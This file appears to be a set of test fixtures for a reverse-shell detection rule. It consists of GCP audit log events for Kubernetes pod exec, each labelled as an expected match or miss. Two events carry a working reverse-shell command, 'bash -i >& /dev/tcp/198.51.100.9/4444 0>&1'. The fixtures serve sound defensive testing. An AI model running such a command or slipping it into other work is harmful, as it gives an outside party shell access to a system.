== match: a shell that calls home
{"@timestamp":"2026-05-11T10:00:00.000Z","event":{"kind":"event","category":["network","configuration"],"type":["start"],"action":"io.k8s.core.v1.pods.exec.create","outcome":"success"},"data_stream":{"dataset":"gcp.audit"},"service":{"name":"k8s.io"},"gcp":{"audit":{"labels":{"command.gke.io/command":"bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"}}}}
== match: backslash, then greater: in the query both are quoted
{"@timestamp":"2026-05-11T10:00:00.000Z","event":{"kind":"event","category":["network","configuration"],"type":["start"],"action":"io.k8s.core.v1.pods.exec.create","outcome":"success"},"data_stream":{"dataset":"gcp.audit"},"service":{"name":"k8s.io"},"gcp":{"audit":{"labels":{"command.gke.io/command":"exec 5<>x; sh 0\\>&1"}}}}
== miss: calls itself
{"@timestamp":"2026-05-11T10:00:00.000Z","event":{"kind":"event","category":["network","configuration"],"type":["start"],"action":"io.k8s.core.v1.pods.exec.create","outcome":"success"},"data_stream":{"dataset":"gcp.audit"},"service":{"name":"k8s.io"},"gcp":{"audit":{"labels":{"command.gke.io/command":"bash -c \"cat < /dev/tcp/127.0.0.1/80\""}}}}
== miss: the same sign without the backslash
{"@timestamp":"2026-05-11T10:00:00.000Z","event":{"kind":"event","category":["network","configuration"],"type":["start"],"action":"io.k8s.core.v1.pods.exec.create","outcome":"success"},"data_stream":{"dataset":"gcp.audit"},"service":{"name":"k8s.io"},"gcp":{"audit":{"labels":{"command.gke.io/command":"exec 5<>x; sh 0>&1"}}}}
== miss: a listing
{"@timestamp":"2026-05-11T10:00:00.000Z","event":{"kind":"event","category":["network","configuration"],"type":["start"],"action":"io.k8s.core.v1.pods.exec.create","outcome":"success"},"data_stream":{"dataset":"gcp.audit"},"service":{"name":"k8s.io"},"gcp":{"audit":{"labels":{"command.gke.io/command":"ls -la /srv"}}}}
== miss: the other end of it
{"@timestamp":"2026-05-11T10:00:00.000Z","event":{"kind":"event","category":["network","configuration"],"type":["end"],"action":"io.k8s.core.v1.pods.exec.create","outcome":"success"},"data_stream":{"dataset":"gcp.audit"},"service":{"name":"k8s.io"},"gcp":{"audit":{"labels":{"command.gke.io/command":"bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"}}}}
